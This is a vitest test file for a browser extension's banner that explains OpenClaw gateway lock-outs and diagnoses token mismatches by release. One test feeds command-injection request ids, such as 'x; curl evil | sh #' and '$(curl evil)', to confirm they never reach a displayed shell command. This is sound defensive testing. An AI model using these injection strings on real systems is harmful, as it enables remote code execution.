import { describe, expect, it } from 'vitest';
import { bannerHeading, bannerSentences, type BannerFacts } from './banner-text';
import { plainText, type Rich } from './command-values';
import { KINDS, TITLES, diagnose, type Lockout, type LockoutKind } from './lockout';
import { parseRelease } from './release';
import { translatorFor } from './test-i18n';

const t = await translatorFor('en');

const FACTS: BannerFacts = { lockouts: [], release: null, deviceToken: 'stored', clearedKeys: [], clearedAutomatically: false, undo: null, sharedTokenInTab: false };

describe('banner text', () => {
  it('has its own heading and sentence for every lock-out', () => {
    const seen = new Set<string>();
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      const facts = { ...FACTS, lockouts: [{ kind }] };
      expect(bannerHeading(facts, t)).toBe(TITLES[kind]);
      const [sentence] = bannerSentences(facts, t);
      expect(sentence, kind).toBeTruthy();
      seen.add(plainText(sentence!));
    }
    expect(seen.size).toBe(Object.keys(TITLES).length);
  });

  it('fills in the pairing request id', () => {
    expect(bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId: 'req-1' }] }, t)[0]).toContainEqual({ code: 'openclaw devices approve req-1' });
  });

  it('says to keep the allowed origins already listed', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'origin-not-allowed' }] }, t);
    expect(sentence).toContainEqual({ code: 'gateway.controlUi.allowedOrigins' });
    expect(plainText(sentence!)).toMatch(/keeping the origins already listed/);
  });

  it('explains a stale device token reported as a gateway token mismatch', () => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' }] }, t);
    expect(plainText(sentence!)).toMatch(/2026\.2\.22 to 2026\.3\.8/);
  });

  it('says what was cleared while the gateway token is still wrong', () => {
    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'] }, t);
    expect(sentences).toHaveLength(2);
    expect(sentences[1]).toContainEqual({ code: 'k' });
  });
});

const codeSegments = (text: Rich) => text.filter((segment) => typeof segment !== 'string');
const CLEARED: BannerFacts = { ...FACTS, deviceToken: 'cleared', undo: 'available' };

describe('page strings never become formatting in the banner', () => {
  it('a key name with backticks stays one code segment, verbatim', () => {
    const key = 'openclaw.device.auth.v1:ws://x`<b>`y`';
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: [key] }, t);
    expect(codeSegments(sentence!)).toEqual([
      { code: key },
      { code: 'openclaw gateway auth-token --show' },
      { code: 'gateway.auth.token' },
      { code: 'openclaw config file' },
      { code: 'OPENCLAW_GATEWAY_TOKEN' },
    ]);
  });

  it('each key name is its own code segment, and plain text has no stray backticks', () => {
    const keys = ['a`b', '`', '``', 'c'];
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
    expect(codeSegments(sentence!)).toEqual(keys.map((key) => ({ code: key })));
    for (const segment of sentence!) if (typeof segment === 'string') expect(segment).not.toContain('`');
  });

  it('long key names are cut, and a long list is counted', () => {
    const keys = Array.from({ length: 8 }, (_, i) => `openclaw.device.auth.v1:ws://${String(i).repeat(1024 * 128)}`);
    const [sentence] = bannerSentences({ ...CLEARED, clearedKeys: keys, sharedTokenInTab: true }, t);
    const shown = codeSegments(sentence!) as { code: string }[];
    expect(shown).toHaveLength(5);
    for (const { code } of shown) expect(code.length).toBeLessThanOrEqual(200);
    expect(plainText(sentence!)).toContain('and 3 more');
    expect(plainText(sentence!).length).toBeLessThan(2000);
  });

  it('only the extension’s own words mark code, for every lock-out', () => {
    for (const kind of Object.keys(TITLES) as LockoutKind[]) {
      for (const deviceToken of ['stored', 'none', 'cleared'] as const) {
        for (const sentence of bannerSentences({ ...FACTS, deviceToken, clearedKeys: ['k`<i>`'], lockouts: [{ kind }] }, t)) {
          for (const segment of sentence) if (typeof segment === 'string') expect(segment, kind).not.toContain('`');
        }
      }
    }
  });
});

describe('page data never becomes a shell command in the banner', () => {
  it.each(['x; curl evil | sh #', '$(curl evil)', '`curl evil`', '--latest', 'r'.repeat(129), 'abc\ndef'])('a hostile request id %j is replaced by <requestId>', (requestId) => {
    const [sentence] = bannerSentences({ ...FACTS, lockouts: [{ kind: 'pairing-required', requestId }] }, t);
    expect(sentence).toContainEqual({ code: 'openclaw devices approve <requestId>' });
    expect(sentence).toContainEqual({ code: 'openclaw devices list' });
    expect(plainText(sentence!)).not.toContain(requestId);
  });
});

describe('diagnose', () => {
  const B = [{ kind: 'gateway-token-mismatch' as const }];
  const B_UI = [{ kind: 'gateway-token-mismatch' as const, hint: 'control-ui' as const }];
  const STALE = { deviceTokenStored: true, sharedTokenHeld: false };
  const A_AS_B = { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' };

  it('reads B with the Control UI’s hint, a stored device token and no gateway token as A on an unknown release', () => {
    expect(diagnose(B_UI, STALE)).toEqual([{ ...A_AS_B, hint: 'control-ui' }]);
  });

  it('without a hint (cut, or 3.7+’s generic words) on an unknown release, explains both and marks the reading uncertain', () => {
    expect(diagnose(B, STALE)).toEqual([{ ...A_AS_B, uncertain: true, otherReading: 'gateway-token-mismatch' }]);
  });

  it.each(['cli-remote', 'cli-local', 'client'] as const)('never reads a message with another client’s hint (%s) as the page’s quirk', (hint) => {
    expect(diagnose([{ kind: 'gateway-token-mismatch', hint }], STALE)).toEqual([{ kind: 'gateway-token-mismatch', hint }]);
    expect(diagnose([{ kind: 'gateway-token-mismatch', hint }], STALE, parseRelease('2026.2.26'))).toEqual([{ kind: 'gateway-token-mismatch', hint }]);
  });

  it('never reads the CLI’s refusal in the light of the page', () => {
    expect(diagnose([{ kind: 'gateway-token-mismatch', client: 'cli' }], STALE)).toEqual([{ kind: 'gateway-token-mismatch', client: 'cli' }]);
    expect(diagnose([{ kind: 'device-token-mismatch', client: 'cli' }], { deviceTokenStored: false, sharedTokenHeld: false }, parseRelease('2026.2.19'))).toEqual([
      { kind: 'device-token-mismatch', client: 'cli' },
    ]);
  });

  it.each([
    ['2026.1.24', true],
    ['2026.2.12', true],
    ['2026.2.13', false],
    ['2026.2.21', false],
    ['2026.2.22', true],
    ['2026.3.6', true],
    ['2026.3.8', true],
    ['2026.3.9', false],
    ['2026.4.24', false],
    ['2026.9.6', false],
  ])('B with a stale device token on %s is A: %s', (release, isA) => {
    for (const lockouts of [B, B_UI]) {
      const [read] = diagnose(lockouts, STALE, parseRelease(release));
      expect(read?.kind).toBe(isA ? 'device-token-mismatch' : 'gateway-token-mismatch');
      expect(read?.uncertain).toBeUndefined();
    }
  });

  it('keeps B when the tab holds a gateway token, or no device token is stored', () => {
    expect(diagnose(B, { deviceTokenStored: true, sharedTokenHeld: true })).toEqual(B);
    expect(diagnose(B, { deviceTokenStored: false, sharedTokenHeld: false })).toEqual(B);
  });

  it('reads A with no device token stored as B on 2026.2.17–2.21, as A elsewhere, and as uncertain on an unknown release', () => {
    const A = [{ kind: 'device-token-mismatch' as const }];
    const NONE = { deviceTokenStored: false, sharedTokenHeld: false };
    expect(diagnose(A, NONE, parseRelease('2026.2.19'))).toEqual([{ kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' }]);
    expect(diagnose(A, NONE, parseRelease('2026.9.6'))).toEqual(A);
    expect(diagnose(A, NONE, parseRelease('2026.2.22'))).toEqual(A);
    expect(diagnose(A, NONE)).toEqual([{ kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' }]);
    // With a device token stored it is A, whatever the release.
    expect(diagnose(A, STALE, parseRelease('2026.2.19'))).toEqual(A);
    // A login gate dates the page to 3.x or later: A.
    expect(diagnose([{ kind: 'device-token-mismatch', shownIn: 'login-gate' }], NONE)).toEqual([{ kind: 'device-token-mismatch', shownIn: 'login-gate' }]);
  });

  it('reads the ≤2026.1.30 "connect failed" with a device token stored as A', () => {
    const closed = { kind: 'connect-failed' as const, clientClosed: true as const };
    expect(diagnose([closed], { deviceTokenStored: true, sharedTokenHeld: true })).toEqual([
      { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    ]);
    expect(diagnose([closed], { deviceTokenStored: false, sharedTokenHeld: true })).toEqual([closed]);
    expect(diagnose([closed], { deviceTokenStored: true, sharedTokenHeld: false }, parseRelease('2026.4.24'))).toEqual([closed]);
    // "gateway connect failed" (3.7+) says nothing about the device token.
    expect(diagnose([{ kind: 'connect-failed' }], { deviceTokenStored: true, sharedTokenHeld: false })).toEqual([{ kind: 'connect-failed' }]);
  });

  it('drops "connection failed" when another lock-out names the cause', () => {
    expect(diagnose([{ kind: 'connect-failed' }, { kind: 'pairing-required' }], STALE)).toEqual([{ kind: 'pairing-required' }]);
  });
});

// ---------------------------------------------------------------------------------------------
// Every combination: the banner never contradicts its heading and never repeats itself
// ---------------------------------------------------------------------------------------------

const DEVICE_TOKEN_STATES = ['stored', 'none', 'cleared'] as const;
const UNDO_STATES = ['available', 'confirm-overwrite', 'restored', null] as const;
/** Each kind alone, its uncertain and reinterpreted readings, and every pair of kinds. */
const LOCKOUT_SETS: Lockout[][] = (() => {
  const singles: Lockout[] = [
    ...KINDS.map((kind) => ({ kind })),
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' },
    { kind: 'device-token-mismatch', reportedAs: 'connect-failed' },
    { kind: 'gateway-token-mismatch', reportedAs: 'device-token-mismatch' },
    { kind: 'connect-failed', clientClosed: true },
    { kind: 'pairing-required', requestId: 'r-42' },
  ];
  const sets: Lockout[][] = [[], ...singles.map((l) => [l])];
  for (let i = 0; i < KINDS.length; i++) for (let j = i + 1; j < KINDS.length; j++) sets.push([{ kind: KINDS[i]! }, { kind: KINDS[j]! }]);
  return sets;
})();

describe.each(DEVICE_TOKEN_STATES)('banner with the device token %s', (deviceToken) => {
  it.each(UNDO_STATES)('undo %s: every set of lock-outs, no sentence twice, no contradiction with the heading', (undo) => {
    let checked = 0;
    for (const lockouts of LOCKOUT_SETS) {
      for (const clearedAutomatically of [true, false]) {
        const facts: BannerFacts = { ...FACTS, lockouts, deviceToken, undo, clearedAutomatically, clearedKeys: deviceToken === 'cleared' ? ['k'] : [] };
        const heading = bannerHeading(facts, t);
        const sentences = bannerSentences(facts, t).map(plainText);
        const label = `${heading} | ${JSON.stringify(lockouts)}`;
        expect(new Set(sentences).size, label).toBe(sentences.length);
        // One sentence per lock-out (two readings of one lock-out are one sentence), plus the clear's.
        expect(sentences.length, label).toBeGreaterThanOrEqual(Math.min(lockouts.length, 1));
        const text = sentences.join(' ');
        // Only a heading that names the device token, or the clear, may call a token stale or say it was cleared as one.
        if (!/Device token mismatch|stale device token|Stale device token cleared/.test(heading)) {
          expect(text, label).not.toMatch(/the stale device token/i);
          expect(text, label).not.toMatch(/Clearing it lets the gateway issue a new one/);
        }
        // A heading that names B alone never says the device token was the problem.
        if (heading === 'Gateway token mismatch') expect(text, label).not.toMatch(/stale device token|device token this browser saved/i);
        // The clear is announced only when it happened.
        if (deviceToken !== 'cleared') expect(text, label).not.toMatch(/cleared (the|this page’s)/i);
        // An uncertain reading is not announced as an automatic clear.
        if (lockouts.some((l) => l.uncertain) && deviceToken === 'stored') expect(text, label).toMatch(/nothing was cleared|the next step is the same|Clearing it/);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(500);
  });
});

describe('the uncertain reading', () => {
  const UNCERTAIN: Lockout = { kind: 'device-token-mismatch', reportedAs: 'gateway-token-mismatch', uncertain: true, otherReading: 'gateway-token-mismatch' };
  it('names both in the heading and in the sentence, and says nothing was cleared', () => {
    const facts = { ...FACTS, lockouts: [UNCERTAIN] };
    expect(bannerHeading(facts, t)).toBe('Gateway token mismatch or stale device token');
    const [sentence] = bannerSentences(facts, t);
    expect(plainText(sentence!)).toMatch(/nothing was cleared/);
    expect(plainText(sentence!)).toMatch(/First paste the gateway token/);
  });

  it('a clear done before a B shows is told without calling that token stale', () => {
    const sentences = bannerSentences({ ...FACTS, lockouts: [{ kind: 'gateway-token-mismatch' }], deviceToken: 'cleared', clearedKeys: ['k'], undo: 'available', clearedAutomatically: true }, t);
    expect(plainText(sentences[1]!)).toBe('Before this error, the extension cleared this page’s saved device token (k); a backup is kept, and Undo puts it back.');
  });
});
